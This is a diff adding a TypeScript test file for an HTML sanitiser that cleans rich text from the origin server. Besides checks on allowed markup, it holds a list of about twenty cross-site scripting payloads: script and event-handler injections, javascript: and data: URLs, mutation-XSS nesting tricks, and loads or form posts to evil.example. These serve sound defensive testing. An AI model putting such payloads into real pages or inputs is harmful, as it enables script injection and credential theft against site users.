@@ -1,0 +1,79 @@
+// Rich text from the origin: what may stand on a page stays, everything else goes.
+import t from 'tap'
+import { sanitise } from '../../../server/http/rich-text.ts'
+import { elementsOf } from '../../helpers/elements.ts'
+
+const kept = [
+  '<h2 id="a">A</h2><h3>B</h3><p>text <strong>b</strong> <em>i</em> <code>c</code></p>',
+  '<ul><li>a</li></ul><ol start="3"><li>b</li></ol><dl><dt>a</dt><dd>b</dd></dl>',
+  '<blockquote>q</blockquote><pre><code>x &lt; y</code></pre>',
+  '<p><a href="/news/1">here</a> <a href="mailto:a@b.example">mail</a> <a href="tel:+86">call</a> <a href="#a">top</a></p>',
+  '<figure><figcaption>c</figcaption></figure><p lang="en" dir="ltr">x</p>',
+]
+
+t.test('plain markup stays as it is', async (t) => {
+  for (const html of kept) t.equal(sanitise(html), html)
+})
+
+t.test('tables scroll in a box of their own', async (t) => {
+  const table = '<table><tr><th scope="col" colspan="2">a</th></tr><tr><td rowspan="2">b</td></tr></table>'
+  t.equal(sanitise(table), `<div class="table-scroll" tabindex="0">${table}</div>`)
+})
+
+t.test('a heading of the first level becomes one of the second', async (t) => {
+  t.equal(sanitise('<h1>a</h1>'), '<h2>a</h2>')
+})
+
+t.test('links to elsewhere open no door', async (t) => {
+  t.equal(
+    sanitise('<a href="https://else.example" target="_blank" rel="opener">x</a>'),
+    '<a href="https://else.example" rel="noopener noreferrer">x</a>',
+  )
+})
+
+t.test('images are lazy, have their size where the name tells it, and an alternative text', async (t) => {
+  t.equal(
+    sanitise('<img src="/media/a-120x60.svg">'),
+    '<img src="/media/a-120x60.svg" width="120" height="60" loading="lazy" decoding="async" alt="" />',
+  )
+})
+
+const hostile = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<svg onload=alert(1)><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+  '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="javascript:alert(1)"><img src="data:image/svg+xml,<svg onload=alert(1)>">',
+  '<a href="javascript:alert(1)">x</a><a href=" java\nscript:alert(1)">x</a><a href="JaVaScRiPt:alert(1)">x</a>',
+  '<a href="&#106;avascript:alert(1)">x</a><a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="vbscript:x">x</a><a href="//evil.example">x</a><a href="file:///etc/passwd">x</a>',
+  '<p style="background:url(javascript:alert(1))" class="page" onclick="alert(1)" data-page="home">x</p>',
+  '<style>@import "//evil.example"</style><link rel="stylesheet" href="//evil.example"><meta http-equiv="refresh" content="0">',
+  '<form action="//evil.example"><input name="password"><button formaction="javascript:x">x</button></form>',
+  '<object data="x"></object><embed src="x"><base href="//evil.example/"><template><script>x</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
+  '<!--><img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]>',
+  '<p title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</p>',
+  `${'<div>'.repeat(500)}x${'</div>'.repeat(500)}`,
+]
+const scriptable = /^(?:script|style|iframe|object|embed|svg|math|form|input|button|textarea|template|noscript|base|link|meta)$/
+
+t.test('nothing that runs, loads, sends or styles is left', async (t) => {
+  for (const html of hostile) {
+    const clean = sanitise(html)
+    for (const { name, attributes } of elementsOf(clean)) {
+      t.notMatch(name, scriptable, html)
+      for (const [attribute, value] of Object.entries(attributes)) {
+        t.notMatch(attribute, /^(?:on|style|srcdoc|srcset|data-|xlink|form)/, `${html} ${attribute}`)
+        if (attribute === 'class') t.equal(value, 'table-scroll')
+        if (attribute === 'href' || attribute === 'src') t.match(value, /^(?:\/(?!\/)|#|https?:|mailto:|tel:|x$)/, html)
+      }
+    }
+    t.equal(sanitise(clean).replaceAll(/<\/?div[^>]*>/g, ''), clean.replaceAll(/<\/?div[^>]*>/g, ''), 'nothing comes back to life')
+  }
+})
